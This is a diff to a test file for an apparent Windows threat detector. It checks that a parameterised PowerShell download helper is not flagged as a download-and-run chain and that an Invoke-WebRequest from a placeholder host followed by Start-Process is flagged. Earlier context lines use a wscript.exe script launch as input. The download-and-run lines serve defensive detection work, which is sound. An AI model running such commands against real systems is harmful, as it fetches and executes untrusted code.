@@ -120,3 +120,15 @@ def test_run_key_value_and_what_it_starts() -> None:
     assert starts_script_host("wscript.exe C:\\x.vbs") and starts_script_host("C:\\Users\\Public\\u.exe")
     assert not starts_script_host('"C:\\Program Files\\Tool\\tool.exe" /min')
     assert run_key_value(first("Set-ItemProperty -Path HKCU:\\Software\\Tool -Name a -Value b")) is None
+
+
+def test_a_download_helper_whose_url_and_file_are_parameters_is_no_chain() -> None:
+    # A vendor script's helper: nothing says which file the later start runs, only a name.
+    helper = ("function Get-Package([string] $Uri, [string] $Path) {\n"
+              "    Invoke-WebRequest -UseBasicParsing $Uri -OutFile $Path\n}\n"
+              "function Install-Package([string] $Path) {\n"
+              "    Start-Process -FilePath \"$Path\" -ArgumentList '/quiet' -Wait\n}\n")
+    assert DOWNLOAD_RUN not in ids(helper, PS)
+    # A known source or a known file is enough to tie the download to the start.
+    assert DOWNLOAD_RUN in ids("Invoke-WebRequest http://downloads.example.test/x.msi -OutFile $Path\n"
+                               "Start-Process $Path", PS)
